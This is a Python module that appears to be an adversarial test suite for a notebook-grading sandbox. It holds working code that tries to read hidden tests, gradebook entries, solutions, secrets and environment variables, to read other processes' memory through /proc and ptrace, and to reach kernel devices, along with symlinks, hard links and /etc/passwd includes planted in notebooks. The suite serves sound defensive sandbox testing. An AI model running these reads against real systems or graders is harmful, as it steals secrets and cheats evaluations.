"""Reading what is not theirs.

A look that finds nothing is no incident: it costs nobody anything, and honest code looks about too.
So most of these are told of only as code that no exercise asks for.
"""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path

from grader.attacks import (
    NOTEBOOK,
    SOLVED,
    UNSOLVED,
    Attack,
    Base,
    Prizes,
    asked_attack,
    cell_attack,
)

CODE = ("unusual code",)

SHOW = """\
import os
def show(path, most=200_000):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        data = os.read(descriptor, most)
        os.close(descriptor)
        print(path, data.decode("latin-1"))
    except OSError:
        pass
"""

NOTES = """\
import os, socket
PLACES = ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd(), "/")
def leave(text):
    for place in PLACES:
        try:
            open(os.path.join(place, "note"), "w").write(text)
        except OSError:
            pass
    one = socket.socket(socket.AF_UNIX)
    try:
        one.bind("\\0note" + text)
        one.listen()
    except OSError:
        pass
    return one
def found():
    for place in PLACES:
        try:
            yield open(os.path.join(place, "note")).read()
        except OSError:
            pass
    for line in open("/proc/net/unix"):
        if "@note" in line:
            yield line.partition("@note")[2].strip()
"""
"""To leave word for another kernel wherever one may write, and to look for such word."""


def _links_out(folder: Path, prizes: Prizes) -> None:
    for number, path in enumerate(prizes.paths):
        (folder / f"notes-{number}.txt").symlink_to(path)
    (folder / "class").symlink_to(prizes.submissions)
    (folder / "loop").symlink_to(folder)
    (folder / "environment.txt").symlink_to("/proc/self/environ")


def _notebook_is_a_link(folder: Path, prizes: Prizes) -> None:
    (folder / NOTEBOOK).unlink()
    (folder / NOTEBOOK).symlink_to(
        Path(prizes.submissions, "neighbour-full", *folder.parts[-1:]) / NOTEBOOK
    )


def _notebook_is_the_secret(folder: Path, prizes: Prizes) -> None:
    """A hard link can't be told from a file; what it holds must show nowhere."""
    (folder / NOTEBOOK).unlink()
    os.link(prizes.paths[0], folder / NOTEBOOK)


def _half(base: Base) -> Mapping[str, bytes]:
    return base.half.as_files()


def _includes(base: Base) -> Mapping[str, bytes]:
    lines = [
        f"{{% include '{path}' %}} ![]({path}) ![](file://{path})\n\n[x]: <{path}>\n"
        f"<object data='file://{path}'></object><img src='{path}'>"
        for path in base.prizes.paths
    ]
    lines.append(
        "{{ resources }} {{ resources.nbgrader.db_url }} {{ cell }} $\\input{/etc/passwd}$"
    )
    work = base.half.with_cell_before(SOLVED, "\n\n".join(lines), "markdown")
    return work.with_answer(UNSOLVED, "%%html\n{{ resources }}\n" + "\n".join(lines)).as_files()


ATTACKS = (
    cell_attack(
        "reading/by-path",
        "the secret, the suite, the gradebook and the class's files, by their names",
        SHOW + "for path in PATHS + [GRADEBOOK + '-wal', GRADEBOOK + '-journal']:\n    show(path)",
        keeps=True,
    ),
    cell_attack(
        "reading/by-another-way",
        "the same files through /proc, by climbing out, and from folders that are still open",
        SHOW + "import glob\n"
        "roots = ['/proc/1/root', '/proc/1/cwd/../..', '/proc/self/root', '/proc/self/cwd/../..',\n"
        "         '../' * 30, '/..', '/opt/course/..', '/proc/thread-self/root', '/oldroot',\n"
        "         '/newroot', *glob.glob('/proc/[0-9]*/root'), *glob.glob('/proc/*/fd/*')]\n"
        "for root in roots:\n"
        "    for path in PATHS:\n"
        "        show(root + '/' + path.lstrip('/'))\n"
        "for number in range(3, 64):\n"
        "    for path in PATHS:\n"
        "        try:\n"
        "            os.read(os.open('../' * 30 + path[1:], os.O_RDONLY, dir_fd=number), 10**6)\n"
        "            print(REACHED)\n"
        "        except OSError:\n"
        "            pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/whole-tree",
        "everything that may be listed and bears the name of something worth reading",
        SHOW + "names = {'secret', 'gradebook.db', 'suite.json', 'model.safetensors', 'suite',\n"
        "         'submitted', 'journal', 'submission_secret.txt', 'probes', 'solutions'}\n"
        "for top in {'/', '/proc/1/root', CHECKOUT, SUBMISSIONS}:\n"
        "    for folder, inner, files in os.walk(top):\n"
        "        inner[:] = [] if folder.count('/') > 6 else [\n"
        "            one for one in inner if one not in ('proc', 'sys', 'share')]\n"
        "        for name in names.intersection(files):\n"
        "            show(os.path.join(folder, name))\n"
        "        if names.intersection(inner) and 'python' not in folder:\n"
        "            print(folder, os.listdir(folder))",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/gradebook",
        "the hidden tests, which nbgrader keeps in its gradebook beside the grades",
        "import sqlite3\n"
        "for address in (GRADEBOOK, f'file:{GRADEBOOK}?mode=ro&immutable=1'):\n"
        "    try:\n"
        "        base = sqlite3.connect(address, uri=address.startswith('file'))\n"
        "        for table in ('source_cell', 'student', 'grade', 'comment', 'glasslab_report'):\n"
        "            print(base.execute(f'select * from {table}').fetchall())\n"
        "    except sqlite3.Error:\n"
        "        pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/solutions",
        "the solutions, the probes and the grader, in the checkout and through Python's own paths",
        SHOW + "import glob, importlib, pkgutil, sys\n"
        "for top in (CHECKOUT, '/opt', '/work', '/src', '/home', '/root', *sys.path):\n"
        "    for part in ('solutions/*/*.ipynb', 'grader/*.py', 'grader/*/*.py', 'tests/*.py'):\n"
        "        for path in glob.glob(f'{top}/{part}'):\n"
        "            print(REACHED); show(path)\n"
        "for name in ('grader', 'grader.hidden', 'grader.secret', 'grader.probes.data'):\n"
        "    try:\n"
        "        print(importlib.import_module(name), REACHED)\n"
        "    except ImportError:\n"
        "        pass",
        keeps=True,
    ),
    cell_attack(
        "reading/hidden-tests-from-the-kernel",
        "hidden tests in the history, in frames, in constants of code, in anything that is alive",
        "import gc, sys, types\n"
        "def walk(frame):\n"
        "    while frame:\n"
        "        yield frame\n"
        "        frame = frame.f_back\n"
        "texts = [*map(str, In), *map(str, get_ipython().history_manager.input_hist_raw)]\n"
        "for frame in walk(sys._getframe()):\n"
        "    texts += [str(value) for value in frame.f_locals.values() if isinstance(value, str)]\n"
        "    texts += [str(one) for one in frame.f_code.co_consts]\n"
        "for one in gc.get_objects():\n"
        "    if isinstance(one, types.CodeType):\n"
        "        texts += [text for text in one.co_consts if isinstance(text, str)]\n"
        "    elif type(one) in (dict, list, tuple) and len(one) < 1000:\n"
        "        values = one.values() if isinstance(one, dict) else one\n"
        "        texts += [text for text in values if type(text) is str]\n"
        "words = ('BEGIN ' + 'HIDDEN', 'grader.' + 'hidden', 'probe' + '(', 'priz' + 'e')\n"
        "for text in texts:\n"
        "    if any(word in text for word in words) and 'texts' not in text:\n"
        "        print(text[:2000])",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/notebook-beside",
        "the notebook that nbgrader runs lies in the working directory, hidden tests and all",
        SHOW + "import glob\n"
        "home = os.path.expanduser('~')\n"
        "for top in ('.', '..', '../..', home, '/tmp', '/run', '/opt', '/opt/*'):\n"
        "    for path in glob.glob(f'{top}/*.ipynb') + glob.glob(f'{top}/*.json'):\n"
        "        if not path.endswith('kernel.json'):\n"
        "            print(REACHED)\n"
        "            show(path)",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/environment",
        "the grader's environment variables, in this process and in all others",
        "import glob, os\n"
        "print(os.environ.get(VARIABLE), os.environ)\n"
        "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/task/*/environ'):\n"
        "    try:\n"
        "        print(open(path).read())\n"
        "    except OSError:\n"
        "        pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/other-processes",
        "command lines, working folders, open files and memory of whatever runs",
        SHOW + "import glob, re\n"
        "for folder in glob.glob('/proc/[0-9]*'):\n"
        "    for name in ('cmdline', 'comm', 'maps', 'status', 'stack', 'auxv', 'syscall'):\n"
        "        show(f'{folder}/{name}', 20_000)\n"
        "    for link in (f'{folder}/cwd', f'{folder}/exe', *glob.glob(f'{folder}/fd/*')):\n"
        "        try:\n"
        "            print(link, os.readlink(link))\n"
        "        except OSError:\n"
        "            pass\n"
        "    if folder != f'/proc/{os.getpid()}':\n"
        "        try:\n"
        "            os.close(os.open(f'{folder}/mem', os.O_RDONLY))\n"
        "            start = int(open(f'{folder}/maps').read().partition('-')[0], 16)\n"
        "            if os.pread(os.open(f'{folder}/mem', os.O_RDONLY), 16, start):\n"
        "                print(REACHED)\n"
        "        except (OSError, ValueError):\n"
        "            pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/tracing",
        "ptrace, process_vm_readv and pidfd_getfd on the first process, the parent and a sibling",
        "import ctypes, os, platform, subprocess\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "readv, getfd = {'x86_64': (310, 438), 'aarch64': (270, 438)}[platform.machine()]\n"
        "child = subprocess.Popen(['/usr/bin/sleep', '5'])\n"
        "for pid in (1, os.getppid(), child.pid, os.getpid() - 1):\n"
        "    if libc.ptrace(0x4206, pid, 0, 0) == 0 or libc.ptrace(16, pid, 0, 0) == 0:\n"
        "        print(REACHED)\n"
        "    here = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)\n"
        "    if pid > 0 and libc.syscall(readv, pid, here, 1, here, 1, 0) > 0:\n"
        "        print(REACHED)\n"
        "    try:\n"
        "        descriptor = os.pidfd_open(pid)\n"
        "        if any(libc.syscall(getfd, descriptor, n, 0) >= 0 for n in range(64)):\n"
        "            print(REACHED)\n"
        "    except OSError:\n"
        "        pass\n"
        "child.kill(); child.wait()",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/inherited-descriptors",
        "what the grader, bubblewrap or the zygote left open in the kernel",
        "import os, stat\n"
        "for number in map(int, os.listdir('/proc/self/fd')):\n"
        "    try:\n"
        "        kind = os.fstat(number).st_mode\n"
        "        print(number, os.readlink(f'/proc/self/fd/{number}'))\n"
        "        if stat.S_ISREG(kind):\n"
        "            print(os.pread(number, 100_000, 0))\n"
        "            os.close(os.open(f'/proc/self/fd/{number}', os.O_RDWR))\n"
        "        elif stat.S_ISDIR(kind):\n"
        "            print(os.listdir(number), os.listdir(f'/proc/self/fd/{number}/../../..'))\n"
        "        elif stat.S_ISFIFO(kind):\n"
        "            again = os.open(f'/proc/self/fd/{number}', os.O_RDONLY | os.O_NONBLOCK)\n"
        "            data = os.read(again, 100_000)\n"
        "            os.close(again)\n"
        "            print(data)\n"
        "    except OSError:\n"
        "        pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/own-memory",
        "secrets in this process's own memory: a forked kernel inherits all that its zygote held",
        "import re\n"
        "# Put together, so that these words don't find themselves.\n"
        "words = [a + b for a, b in ((b'pri', b'ze'), (b'BEGIN HID', b'DEN TESTS'),\n"
        "         (b'question', b'_seed'), (b'glasslab-se', b'cret'), (b'SQLite for', b'mat 3'))]\n"
        "pattern = re.compile(b'|'.join(map(re.escape, words)))\n"
        "with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:\n"
        "    shown = 0\n"
        "    for line in maps.readlines():\n"
        "        first, last = (int(one, 16) for one in line.split()[0].split('-'))\n"
        "        if ' rw' not in line or '[vv' in line or last - first > 2**28:\n"
        "            continue\n"
        "        try:\n"
        "            memory.seek(first)\n"
        "            data = memory.read(last - first)\n"
        "        except (OSError, ValueError, OverflowError, MemoryError):\n"
        "            continue\n"
        "        for match in pattern.finditer(data):\n"
        "            if shown < 1000:\n"
        "                print(data[match.start() : match.end() + 100])\n"
        "                shown += 1",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/kernel-s-own-files",
        "the machine's log, symbols, memory, swap, disks and firmware",
        SHOW + "import ctypes\n"
        "for path in ('/dev/kmsg', '/dev/mem', '/dev/kmem', '/dev/port', '/proc/kcore',\n"
        "             '/proc/kmsg', '/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/dm-0',\n"
        "             '/sys/kernel/debug', '/sys/firmware/dmi/entries', '/var/log/syslog'):\n"
        "    try:\n"
        "        if os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 16):\n"
        "            print(REACHED, path)\n"
        "    except OSError:\n"
        "        pass\n"
        "buffer = ctypes.create_string_buffer(2**16)\n"
        "if ctypes.CDLL(None).klogctl(3, buffer, len(buffer)) > 0:\n"
        "    print(REACHED, 'dmesg')\n"
        "for device in ((8, 0), (252, 0), (253, 0), (254, 0), (259, 0), (1, 1), (1, 2)):\n"
        "    try:\n"
        "        os.mknod('/tmp/disk', 0o60666, os.makedev(*device))\n"
        "        print(REACHED, device)\n"
        "    except OSError:\n"
        "        pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reading/shared-memory-and-sockets",
        "memory and sockets of others: /dev/shm, System V, message queues, every unix socket known",
        SHOW + "import glob, socket\n"
        "for path in glob.glob('/dev/shm/*') + glob.glob('/dev/mqueue/*'):\n"
        "    show(path)\n"
        "for name in ('shm', 'msg', 'sem'):\n"
        "    if len(open(f'/proc/sysvipc/{name}').readlines()) > 1:\n"
        "        print(REACHED)\n"
        "names = {line.split()[-1] for line in open('/proc/net/unix') if line.count(' ') > 6}\n"
        "for name in sorted(names):\n"
        "    address = '\\0' + name[1:] if name.startswith('@') else name\n"
        "    if 'glasslab' in name:\n"
        "        print(REACHED, name)\n"
        "    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):\n"
        "        try:\n"
        "            with socket.socket(socket.AF_UNIX, kind) as one:\n"
        "                one.settimeout(0.2)\n"
        "                one.connect(address)\n"
        "                one.send(b'\\0' * 64)\n"
        "                print(name, one.recv(2**16))\n"
        "        except OSError:\n"
        "            pass",
        told=CODE,
        # The kernel's own sockets are among them: it may well die of such greetings.
    ),
    asked_attack(
        "reading/expected-answers-from-frames",
        "the expected answer, in whatever frames and objects surround a hidden question",
        """\
frame, seen = sys._getframe(), []
while frame:
    seen += list(frame.f_locals.values())
    frame = frame.f_back
for one in [*seen, *gc.get_objects()]:
    if type(one) is dict and {"question", "right"} & one.keys():
        return one.get("right")
    if torch.is_tensor(one) and one.shape == W_E.shape and one is not W_E:
        return one
return W_E""",
        "import gc, sys, torch",
        told=CODE,
        keeps=True,
    ),
    asked_attack(
        "reading/questions-kept-for-the-rerun",
        "a hidden question is kept, the kernel killed, and the next run of the cells shows it",
        """\
kept = leave(str(hash(str(W_E.tolist()))))
if os.fork() == 0:
    os.setsid()
    time.sleep(3600)
os._exit(0)""",
        "import time\n" + NOTES + "for text in found():\n    print(REACHED)",
        told=("answer died",),
        keeps=True,
    ),
    asked_attack(
        "reading/questions-shown-late",
        "a display of the run is overwritten, and a thread prints, while questions are asked",
        """\
handle.update(kept)
display(kept)
print(kept, W_E.tolist())
threading.Timer(0.05, print, (kept,)).start()
raise ValueError(kept)""",
        """\
import threading
from IPython.display import display
kept = REACHED
handle = display("nothing yet", display_id="kept")""",
        keeps=True,
    ),
    *(
        cell_attack(
            f"reading/notes-{mine}",
            "one learner's kernel leaves word for another's, which shows it",
            NOTES + f"for text in found():\n    if text == {theirs!r}:\n        print(REACHED)\n"
            f"kept = leave({mine!r})",
            told=CODE,
            keeps=True,
        )
        for mine, theirs in (("one", "two"), ("two", "one"))
    ),
    Attack(
        "reading/links-beside",
        "links beside the notebook lead to the secret, the class and the grader's environment",
        _half,
        plant=_links_out,
        told=("stray file",),
        keeps=True,
    ),
    Attack(
        "reading/notebook-is-a-link",
        "the notebook is a link to the best submission of the class",
        _half,
        told=("no notebook",),
        plant=_notebook_is_a_link,
    ),
    Attack(
        "reading/notebook-is-the-secret",
        "the notebook is a second name of the file that holds the secret",
        _half,
        told=("unreadable",),
        plant=_notebook_is_the_secret,
        nbgrader="read",
        nbgrader_says="reads the secret's file as a notebook and stops with its text in the log",
    ),
    Attack(
        "reading/includes",
        "templates, pictures and objects in Markdown that take in files of the grader",
        _includes,
        keeps=True,
    ),
)
